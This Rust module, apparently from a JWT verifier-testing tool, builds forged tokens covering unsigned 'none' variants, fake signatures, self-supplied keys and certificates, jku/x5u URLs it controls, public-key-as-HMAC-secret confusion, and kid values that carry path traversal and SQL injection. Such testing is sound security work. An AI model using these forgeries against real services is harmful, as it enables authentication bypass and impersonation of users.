//! JWTs that choose how they are verified: by an algorithm of their own, with a key of their own, or not at all. Each of these has been an
//! advisory about some library.

use std::fmt::Display;

use hmac::{Hmac, KeyInit as _, Mac as _};
use serde_json::{Map, Value, json};
use sha2::{Sha384, Sha512};

use super::forge::{hmac_sha256, with};
use super::published;
use crate::client::random;
use crate::codec::jwt::{self, Jwt};
use crate::codec::{base64, envelope, json, signature};

/// A forged token and what it is.
pub type Trick = (String, String);

/// A key of ours and where it is published.
pub struct Ours {
    seed: [u8; 32],
    /// Its name.
    kid: String,
}

impl Ours {
    /// A fresh one.
    pub fn new() -> Self {
        Self { seed: random::bytes(), kid: crate::ground::hex::encode(&random::bytes::<8>()) }
    }

    fn public(&self) -> [u8; 32] {
        signature::public_key(&self.seed)
    }

    fn jwk(&self) -> Value {
        let x = base64::encode_url(&self.public());
        json!({ "kty": "OKP", "crv": "Ed25519", "alg": "EdDSA", "use": "sig", "kid": self.kid, "x": x })
    }

    /// A key set that is a discovery document, too, of whichever kind somebody looks for.
    pub fn document(&self, url: &str) -> String {
        let keys = format!("{url}/keys.json");
        json!({
            "keys": [self.jwk()], "issuer": url, "jwks_uri": keys, "issuerJwksUrl": keys, "profiles": ["http-json"],
        })
        .to_string()
    }

    fn sign(&self, header: &Map<String, Value>, claims: &Map<String, Value>) -> String {
        jwt::encode(header, claims, |input| signature::sign(&self.seed, input).to_vec())
    }
}

/// All of them. `keys` are the issuer's published ones, `set` the texts of all keys of its key set; `exhaustive` tries every secret with every algorithm.
pub fn tricks(
    real: &Jwt,
    (keys, set): (&[[u8; 32]], &[String]),
    ours: &Ours,
    url: &str,
    exhaustive: bool,
) -> Vec<Trick> {
    let mut all = unsigned(real);
    all.extend(damaged(real));
    all.extend(own_key(real, ours));
    all.extend(addresses(real, ours, url));
    all.extend(key_names(real));
    for key in keys {
        all.extend(public_secrets(real, key, exhaustive));
        all.extend(encrypted(real, key));
    }
    all.extend(set.iter().flat_map(|text| listed_secrets(real, text)));
    all
}

/// A key of the set as it stands there, and what else it may have been stored as.
fn listed_secrets(real: &Jwt, text: &str) -> Vec<Trick> {
    let jwk: Value = serde_json::from_str(text).unwrap_or_default();
    let mut secrets = published::encodings(&jwk);
    secrets.push(("as it stands in the key set", text.as_bytes().to_vec()));
    let header = with(&real.header, "alg", json!("HS256"));
    let signed = |(what, secret): (&str, Vec<u8>)| {
        let token = jwt::encode(&header, &real.claims, |input| hmac_sha256(&secret, input).to_vec());
        trick(format!("signed HS256 with the published key as the secret ({what})"), token)
    };
    secrets.into_iter().map(signed).collect()
}

fn trick(what: impl Display, token: String) -> Trick {
    (what.to_string(), token)
}

/// RFC 7515 §3.6 has one spelling for it; libraries have refused just that one.
fn unsigned(real: &Jwt) -> Vec<Trick> {
    let algs = [
        json!("none"),
        json!("None"),
        json!("NONE"),
        json!("nOnE"),
        json!("noNe"),
        json!("none "),
        json!(" none"),
        json!("none\u{0}"),
        json!("\u{ff4e}one"),
        json!(""),
        json!(null),
        json!(["none"]),
        json!(0),
        json!(false),
        json!({}),
    ];
    let mut all: Vec<Trick> = algs
        .into_iter()
        .map(|alg| (alg.to_string(), with(&real.header, "alg", alg)))
        .map(|(alg, header)| trick(format!("unsigned, alg {alg}"), jwt::encode(&header, &real.claims, |_| Vec::new())))
        .collect();
    let mut header = real.header.clone();
    header.remove("alg");
    all.push(trick("unsigned, without alg", jwt::encode(&header, &real.claims, |_| Vec::new())));
    all.push(trick("unsigned, with an empty header", jwt::encode(&Map::new(), &real.claims, |_| Vec::new())));
    let claims = base64::encode_url(json::compact(&real.claims).as_bytes());
    for header in [r#"{"alg":"EdDSA","alg":"none"}"#, r#"{"alg":"none","alg":"EdDSA"}"#] {
        let token = format!("{}.{claims}.", base64::encode_url(header.as_bytes()));
        all.push(trick("unsigned, with alg twice", token));
    }
    let none = with(&real.header, "alg", json!("none"));
    let unsigned = jwt::encode(&none, &real.claims, |_| Vec::new());
    all.push(trick("unsigned and in two parts", unsigned.trim_end_matches('.').to_owned()));
    for (name, value) in [("crit", json!(["exp"])), ("crit", json!([])), ("b64", json!(false))] {
        let header = with(&none, name, value.clone());
        all.push(trick(format!("unsigned, {name} {value}"), jwt::encode(&header, &real.claims, |_| Vec::new())));
    }
    all
}

/// What isn't a signature under an algorithm that the token picks itself.
fn damaged(real: &Jwt) -> Vec<Trick> {
    let claims = with(&real.claims, "edited", json!(true));
    let der_zeros = vec![0x30, 6, 2, 1, 0, 2, 1, 0];
    let signatures = [
        ("ES256", "zeros", vec![0; 64]),
        ("ES256", "zeros in DER", der_zeros.clone()),
        ("ES256K", "zeros", vec![0; 64]),
        ("ES384", "zeros", vec![0; 96]),
        ("ES512", "zeros", vec![0; 132]),
        ("ES512", "zeros in DER", der_zeros),
        ("RS256", "zeros", vec![0; 256]),
        ("PS256", "zeros", vec![0; 256]),
        ("RS256", "one byte", vec![1]),
        ("HS256", "nothing", Vec::new()),
        ("EdDSA", "zeros", vec![0; 64]),
        ("EdDSA", "the identity point", [&[1][..], &[0; 63]].concat()),
        ("Ed448", "zeros", vec![0; 114]),
    ];
    let mut all = Vec::new();
    for (alg, what, bytes) in signatures {
        for claims in [&real.claims, &claims] {
            let header = with(&real.header, "alg", json!(alg));
            all.push(trick(format!("signed {alg} with {what}"), jwt::encode(&header, claims, |_| bytes.clone())));
        }
    }
    let edited = jwt::encode(&real.header, &claims, |_| real.signature.clone());
    for tail in [".", ".AAAA", &format!(".{}", base64::encode_url(&real.signature))] {
        all.push(trick("edited, with a part more", format!("{edited}{tail}")));
    }
    for (name, value) in [("crit", json!(["b64"])), ("b64", json!(false)), ("zip", json!("DEF"))] {
        let header = with(&real.header, name, value);
        all.push(trick(
            format!("with {name} added to its header"),
            jwt::encode(&header, &real.claims, |_| real.signature.clone()),
        ));
    }
    let signed = [&real.signature[..], b"x"].concat();
    all.push(trick(
        "with a byte behind its signature",
        format!("{}.{}", real.signing_input, base64::encode_url(&signed)),
    ));
    all
}

/// RFC 7515 §4.1.3, §4.1.6: a key that the token brings along proves nothing.
fn own_key(real: &Jwt, ours: &Ours) -> Vec<Trick> {
    let base = with(&real.header, "alg", json!("EdDSA"));
    let renamed = with(&base, "kid", json!(ours.kid));
    let secret = random::bytes::<32>();
    let symmetric = json!({ "kty": "oct", "k": base64::encode_url(&secret), "alg": "HS256", "kid": ours.kid });
    let certificate = self_signed(ours);
    let chain = json!([base64::encode(&certificate)]);
    let headers = [
        ("with the key in its header (jwk)", with(&base, "jwk", ours.jwk())),
        ("with the key in its header (jwk) and its kid", with(&renamed, "jwk", ours.jwk())),
        ("with a key set in its header (jwks)", with(&renamed, "jwks", json!({ "keys": [ours.jwk()] }))),
        ("with a certificate of our own (x5c)", with(&base, "x5c", chain.clone())),
        ("with a certificate of our own (x5c) and its kid", with(&renamed, "x5c", chain)),
        ("with another kid", renamed.clone()),
    ];
    let mut all: Vec<Trick> = headers
        .into_iter()
        .map(|(what, header)| trick(format!("signed {what}"), ours.sign(&header, &real.claims)))
        .collect();
    let claims = with(&real.claims, "cnf", json!({ "jwk": ours.jwk() }));
    all.push(trick("signed with the key in its claims (cnf)", ours.sign(&base, &claims)));
    let header = with(&with(&renamed, "alg", json!("HS256")), "jwk", symmetric);
    let sign = |input: &[u8]| hmac_sha256(&secret, input).to_vec();
    all.push(trick("signed HS256 with the secret in its header (jwk)", jwt::encode(&header, &real.claims, sign)));
    all
}

/// The key lies at an address that the token names, and that we listen at.
pub fn addresses(real: &Jwt, ours: &Ours, url: &str) -> Vec<Trick> {
    let renamed = with(&with(&real.header, "alg", json!("EdDSA")), "kid", json!(ours.kid));
    let keys = format!("{url}/keys.json");
    let mut all: Vec<Trick> = [("jku", keys.clone()), ("x5u", format!("{url}/cert.pem")), ("kid", keys)]
        .into_iter()
        .map(|(name, value)| {
            let header = with(&renamed, name, json!(value));
            trick(format!("signed with a key that {name} points to"), ours.sign(&header, &real.claims))
        })
        .collect();
    let claims = with(&real.claims, "iss", json!(url));
    all.push(trick("signed with a key of the issuer that iss points to", ours.sign(&renamed, &claims)));
    all
}

/// `kid` as a path, as SQL, as nothing: the key that comes of it is one that everybody knows.
fn key_names(real: &Jwt) -> Vec<Trick> {
    let up = "../".repeat(12);
    let names: [(Value, &[&[u8]]); 11] = [
        (json!(format!("{up}dev/null")), &[b"", b"\0"]),
        (json!("/dev/null"), &[b"", b"\0"]),
        (json!(format!("{up}proc/sys/kernel/randomize_va_space")), &[b"2\n", b"2"]),
        (json!("' UNION SELECT 'secret' -- "), &[b"secret"]),
        (json!("x' UNION ALL SELECT 'secret"), &[b"secret"]),
        (json!("\" UNION SELECT \"secret\" -- "), &[b"secret"]),
        (json!("' OR '1'='1"), &[b""]),
        (json!(""), &[b"", b"secret"]),
        (json!("0"), &[b""]),
        (json!(null), &[b"", b"null", b"undefined"]),
        (json!("__proto__"), &[b"", b"[object Object]", b"undefined"]),
    ];
    let mut all = Vec::new();
    for (kid, secrets) in names {
        let header = with(&with(&real.header, "alg", json!("HS256")), "kid", kid.clone());
        for secret in secrets {
            let token = jwt::encode(&header, &real.claims, |input| hmac_sha256(secret, input).to_vec());
            all.push(trick(format!("signed HS256, kid {kid}"), token));
        }
    }
    let mut header = with(&real.header, "alg", json!("HS256"));
    header.remove("kid");
    let sign = |input: &[u8]| hmac_sha256(b"", input).to_vec();
    all.push(trick("signed HS256 with an empty secret, without kid", jwt::encode(&header, &real.claims, sign)));
    all
}

/// RFC 8410: SubjectPublicKeyInfo of an Ed25519 key is this prefix and the key.
const SPKI: [u8; 12] = [0x30, 0x2a, 0x30, 0x05, 0x06, 0x03, 0x2b, 0x65, 0x70, 0x03, 0x21, 0x00];

/// Everything that a library may have taken the published key for, as text or bytes.
fn encodings(real: &Jwt, key: &[u8; 32]) -> Vec<(&'static str, Vec<u8>)> {
    let der = [&SPKI[..], key].concat();
    let (x, der64) = (base64::encode_url(key), base64::encode(&der));
    let pem = format!("-----BEGIN PUBLIC KEY-----\n{der64}\n-----END PUBLIC KEY-----");
    let kid = real.header.get("kid").and_then(Value::as_str).unwrap_or_default();
    let jwk = format!(r#"{{"kty":"OKP","crv":"Ed25519","use":"sig","alg":"EdDSA","kid":"{kid}","x":"{x}"}}"#);
    let sorted =
        json!({ "kty": "OKP", "crv": "Ed25519", "use": "sig", "alg": "EdDSA", "kid": kid, "x": x }).to_string();
    let texts = [
        ("base64", base64::encode(key)),
        ("base64 without padding", base64::encode(key).trim_end_matches('=').to_owned()),
        ("base64url", x.clone()),
        ("hex", crate::ground::hex::encode(key)),
        ("HEX", crate::ground::hex::encode(key).to_uppercase()),
        ("PEM", pem.clone()),
        ("PEM and a line break", format!("{pem}\n")),
        ("PEM with CRLF", format!("{}\r\n", pem.replace('\n', "\r\n"))),
        ("base64 of DER", der64),
        ("hex of DER", crate::ground::hex::encode(&der)),
        ("a thumbprint's JWK", format!(r#"{{"crv":"Ed25519","kty":"OKP","x":"{x}"}}"#)),
        ("a small JWK", format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{x}"}}"#)),
        ("a key set", format!(r#"{{"keys":[{jwk}]}}"#)),
        ("a sorted key set", format!(r#"{{"keys":[{sorted}]}}"#)),
        ("a JWK", jwk),
        ("a sorted JWK", sorted),
        ("its kid", kid.to_owned()),
    ];
    let mut all = vec![("32 bytes", key.to_vec()), ("DER", der)];
    all.extend(texts.into_iter().map(|(what, text)| (what, text.into_bytes())));
    all
}

/// The confusion of a verifying key with a shared secret.
fn public_secrets(real: &Jwt, key: &[u8; 32], exhaustive: bool) -> Vec<Trick> {
    let algorithms: [(&str, fn(&[u8], &[u8]) -> Vec<u8>); 3] = [
        ("HS256", |secret, input| hmac_sha256(secret, input).to_vec()),
        ("HS384", |secret, input| mac_384(secret, input)),
        ("HS512", |secret, input| mac_512(secret, input)),
    ];
    let mut all = Vec::new();
    for (at, (name, secret)) in encodings(real, key).into_iter().enumerate() {
        let some = if exhaustive || at < 1 || name == "PEM" { 3 } else { 1 };
        for (alg, mac) in algorithms.into_iter().take(some) {
            let header = with(&real.header, "alg", json!(alg));
            let token = jwt::encode(&header, &real.claims, |input| mac(&secret, input));
            all.push(trick(format!("signed {alg} with the published key as the secret ({name})"), token));
        }
    }
    all
}

fn mac_384(secret: &[u8], input: &[u8]) -> Vec<u8> {
    // HMAC takes keys of every length.
    Hmac::<Sha384>::new_from_slice(secret)
        .map_or_else(|_| Vec::new(), |mac| mac.chain_update(input).finalize().into_bytes().to_vec())
}

fn mac_512(secret: &[u8], input: &[u8]) -> Vec<u8> {
    Hmac::<Sha512>::new_from_slice(secret)
        .map_or_else(|_| Vec::new(), |mac| mac.chain_update(input).finalize().into_bytes().to_vec())
}

/// Encrypted instead of signed (RFC 7516): whoever has the public key can do that.
fn encrypted(real: &Jwt, key: &[u8; 32]) -> Vec<Trick> {
    let none = jwt::encode(&with(&real.header, "alg", json!("none")), &real.claims, |_| Vec::new());
    let contents = [("claims", json::compact(&real.claims)), ("an unsigned JWT", none)];
    contents
        .into_iter()
        .filter_map(|(what, plaintext)| {
            let header = base64::encode_url(br#"{"alg":"dir","enc":"A256GCM","cty":"JWT"}"#);
            let iv = random::bytes::<12>();
            let sealed = envelope::seal_with_aad(key, &iv, header.as_bytes(), plaintext.as_bytes()).ok()?;
            let (text, tag) = sealed.split_at(sealed.len().checked_sub(16)?);
            let [iv, text, tag] = [&iv[..], text, tag].map(base64::encode_url);
            Some(trick(format!("{what} encrypted with the published key"), format!("{header}..{iv}.{text}.{tag}")))
        })
        .collect()
}

/// A certificate (RFC 5280, RFC 8410) that our key gives to itself.
fn self_signed(ours: &Ours) -> Vec<u8> {
    fn der(tag: u8, content: &[u8]) -> Vec<u8> {
        // Nothing in it is longer than 255 bytes.
        let length = u8::try_from(content.len()).unwrap_or(u8::MAX);
        let head = if length < 128 { vec![tag, length] } else { vec![tag, 0x81, length] };
        [&head[..], content].concat()
    }
    let algorithm = der(0x30, &[0x06, 0x03, 0x2b, 0x65, 0x70]);
    let attribute = [&[0x06, 0x03, 0x55, 0x04, 0x03][..], &der(0x0c, b"avp")].concat();
    let name = der(0x30, &der(0x31, &der(0x30, &attribute)));
    let validity = der(0x30, &[der(0x17, b"200101000000Z"), der(0x17, b"491231235959Z")].concat());
    let key = [&SPKI[..], &ours.public()].concat();
    let body = der(0x30, &[vec![0x02, 1, 1], algorithm.clone(), name.clone(), validity, name, key].concat());
    let signature = signature::sign(&ours.seed, &body);
    der(0x30, &[body, algorithm, der(0x03, &[&[0][..], &signature].concat())].concat())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_trick_verifies() {
        let seed = random::bytes();
        let map = |json: Value| json.as_object().cloned().unwrap_or_default();
        let header = map(json!({ "alg": "EdDSA", "typ": "JWT", "kid": "1" }));
        let real =
            jwt::encode(&header, &map(json!({ "sub": "key:x" })), |input| signature::sign(&seed, input).to_vec());
        let (jwt, key) = (Jwt::parse(&real).unwrap(), signature::public_key(&seed));
        let set = [format!(r#"{{"kty":"OKP","crv":"Ed25519","x":"{}"}}"#, base64::encode_url(&key))];
        let all = tricks(&jwt, (&[key], &set), &Ours::new(), "http://127.0.0.1:1", true);
        assert!(all.len() > 120, "{}", all.len());
        for (what, token) in all {
            assert_ne!(token, real, "{what}");
            let verifies = Jwt::parse(&token)
                .is_ok_and(|jwt| signature::verify(&key, jwt.signing_input.as_bytes(), &jwt.signature).is_ok());
            assert!(!verifies, "{what}");
            assert!(token.bytes().all(|byte| byte.is_ascii_graphic()), "{what}");
        }
    }

    #[test]
    fn the_certificate_is_der() {
        let ours = Ours::new();
        let certificate = self_signed(&ours);
        assert_eq!(certificate[..3], [0x30, 0x81, u8::try_from(certificate.len() - 3).unwrap()]);
        assert!(certificate.windows(32).any(|window| window == ours.public()));
    }
}
